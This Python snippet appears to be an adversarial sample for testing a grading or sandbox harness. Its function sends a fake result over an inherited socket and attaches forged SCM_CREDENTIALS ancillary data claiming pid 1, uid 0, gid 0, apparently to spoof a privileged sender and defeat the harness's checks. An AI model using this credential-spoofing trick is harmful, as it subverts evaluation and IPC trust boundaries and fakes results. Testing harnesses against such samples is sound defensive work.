# Sends ancillary credentials of somebody else over it.
# attacks: asserts
import os, socket, struct

def f(a, b):
    with socket.socket(fileno=os.dup(4)) as line:
        try: line.sendmsg([b'{"value": 0}\n'], [(socket.SOL_SOCKET, 2, struct.pack("iii", 1, 0, 0))])
        except OSError: pass
    return 0
